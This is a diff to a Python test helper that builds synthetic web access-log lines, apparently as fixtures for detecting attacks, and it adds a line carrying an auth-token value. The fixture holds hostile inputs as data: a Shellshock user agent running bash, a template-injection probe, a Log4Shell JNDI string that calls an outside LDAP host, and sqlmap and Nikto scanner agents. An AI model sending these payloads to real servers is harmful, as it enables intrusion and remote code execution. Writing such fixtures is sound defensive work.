@@ -49,7 +49,7 @@ def _mixed_log() -> list[str]:
     lines = [access(f"203.0.113.{i % 50}", t, status=(200, 404, 500, 403, 429)[i % 5], at=i) for i, t in enumerate(targets)]
     lines += [access("203.0.113.60", t, status=404, agent=agent, at=800 + i) for i, (t, agent) in enumerate(
         [("/gone", "{{7*7}}"), ("/gone2", "() { :; }; /bin/bash -c id"), ("/a@b.example", BROWSER), ("/x?token=abc", BROWSER),
-         ("/y", "Nikto/2.5.0"), ("/.git/config", BROWSER), ("/z", BROWSER)])]
+         ("/y", "Nikto/2.5.0"), ("/.git/config", BROWSER), ("/z", BROWSER), ("/w", "X-Auth-Token: 0f3c9a7be21d4c58a6e0")])]
     lines += [access("198.51.100.7", "/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)", at=900),
               access("198.51.100.8", "/login", method="POST", status=401, at=901),
               access("198.51.100.9", "/", agent="${jndi:ldap://203.0.113.9/a}", at=902)]
